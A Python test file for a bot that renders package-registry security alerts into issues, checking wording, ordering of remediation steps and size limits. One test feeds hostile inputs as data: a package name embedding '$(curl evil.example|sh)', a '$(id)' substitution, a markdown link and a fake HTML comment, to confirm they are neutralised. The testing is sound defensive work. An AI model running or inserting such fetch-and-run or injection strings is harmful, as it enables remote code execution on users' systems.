"""An alert in words: each kind says what was seen, what it means and what to do, whatever the names are."""

from dataclasses import replace
from html import unescape

import pytest

from bot.evaluation.package_alerts import AlertReason, PackageAlert, PackageAlertKind
from bot.model.core_types import RegistryId
from bot.packages.versions import Package
from bot.registries import load_catalog
from bot.registries.revocation_pages import WITHDRAWAL_FILE, find_withdrawal
from bot.rendering.alert import (
    ALERT_EXPLANATIONS,
    PACKAGE_ALERT_TITLES,
    render_package_alert,
    render_package_alert_update,
)
from bot.rendering.markdown import PACKAGE_ALERT_ISSUE, WORD_JOINER, HiddenMetadata
from bot.rendering.markdown_template import MAX_ISSUE_BYTES
from tests.bot.checks.alerts.observed_versions import CLI, HERE, NOON
from tests.bot.rendering.test_hostile_issues import without_links_to_registries

REGISTRIES = load_catalog().registries


def alarm(kind: PackageAlertKind, *abouts: str, package: Package | None = CLI) -> PackageAlert:
    troubles = tuple(AlertReason(kind, about, f"{about} was seen", NOON, ("it is told",)) for about in abouts)
    return PackageAlert(kind, package, package.registry if package else RegistryId("npm"), HERE, NOON, troubles)


def body(told: PackageAlert) -> str:
    return unescape(render_package_alert(told, REGISTRIES).body).replace(WORD_JOINER, "")


@pytest.mark.parametrize("kind", PackageAlertKind)
def test_each_kind_says_what_was_seen_what_it_means_and_what_to_do(kind: PackageAlertKind) -> None:
    told = alarm(kind, "1.0.1", "1.0.2", package=None if kind is PackageAlertKind.UNREACHABLE else CLI)
    said = body(told)

    places = [
        said.index(part)
        for part in ("1.0.1 was seen", "1.0.2 was seen", ALERT_EXPLANATIONS[kind], "First steps", "1. ")
    ]
    assert places == sorted(places)
    assert render_package_alert(told, REGISTRIES).title.startswith(PACKAGE_ALERT_TITLES[kind].partition(":")[0])
    assert str(HiddenMetadata(PACKAGE_ALERT_ISSUE, told.key)).startswith("<!-- wharfinger package-alert ")


@pytest.mark.parametrize(
    "kind",
    [
        PackageAlertKind.UNTRACED_VERSION,
        PackageAlertKind.PUBLISHER_CHANGED,
        PackageAlertKind.PUBLISH_STEP_NOT_RUN,
        PackageAlertKind.BURST,
    ],
)
def test_withdraw_comes_before_revoke_and_revoke_before_rotate(kind: PackageAlertKind) -> None:
    said = body(alarm(kind, "1.0.1"))
    assert said.index("npm unpublish @acme/cli@1.0.1") < said.index("Revoke every token") < said.index("Rotate")


def test_what_joined_is_told_in_a_comment() -> None:
    told = alarm(PackageAlertKind.UNTRACED_VERSION, "1.0.1", "1.0.2")
    assert "1.0.2 was seen" in unescape(render_package_alert_update(told, told.reasons[1:]))
    assert "1.0.1 was seen" not in unescape(render_package_alert_update(told, told.reasons[1:]))


def test_hundreds_fit_into_one_issue() -> None:
    said = render_package_alert(
        alarm(PackageAlertKind.UNTRACED_VERSION, *(f"1.0.{patch}" for patch in range(400))), REGISTRIES
    )
    assert "… and 370 more reasons" in said.body
    assert len(said.body) < 60_000


def test_hundreds_that_join_at_once_fit_into_one_comment() -> None:
    told = alarm(PackageAlertKind.UNTRACED_VERSION, *(f"1.0.{patch}" for patch in range(900)))
    said = render_package_alert_update(told, told.reasons[1:])
    assert "1.0.1 was seen" in unescape(said)
    assert "… and 869 more reasons" in said
    assert len(said.encode()) < MAX_ISSUE_BYTES


def test_what_is_long_leaves_something_of_what_was_seen() -> None:
    long = tuple(f"1.0.{patch}-{'x' * 4_000}" for patch in range(20))
    told = alarm(PackageAlertKind.UNTRACED_VERSION, *long)
    for said in (render_package_alert(told, REGISTRIES).body, render_package_alert_update(told, told.reasons)):
        assert "1.0.0-xxx" in unescape(said).replace(WORD_JOINER, "")
        assert len(said.encode()) < MAX_ISSUE_BYTES
    assert "First steps" in render_package_alert(told, REGISTRIES).body


def test_no_name_comes_alive() -> None:
    hostile = "1.0.1`](https://evil.example) @acme <!-- wharfinger alert x -->\n# $(id)"
    named = replace(CLI, name="@acme/$(curl evil.example|sh)")
    said = render_package_alert(alarm(PackageAlertKind.UNTRACED_VERSION, hostile, package=named), REGISTRIES)

    assert "<!--" not in said.body
    assert "](https" not in without_links_to_registries(said.body)
    assert "npm unpublish" not in said.body  # nobody is given a command with such a name in it
    assert said.title.isprintable()


def test_every_registry_with_a_way_back_is_known_and_gives_one() -> None:
    ways = {registry: find_withdrawal(registry, "acme-cli", "1.0.1") for registry in REGISTRIES}
    known = {registry for registry, way in ways.items() if way is not None}
    watched = {registry for registry, each in REGISTRIES.items() if each.request_policy is not None}

    assert watched <= known
    assert WITHDRAWAL_FILE.read_text().count('"effect"') == len(known)
    for way in filter(None, ways.values()):
        assert (way.url is None) != (way.command is None)
        assert way.instructions
        assert way.effect
        assert "{" not in f"{way.url}{way.command}"
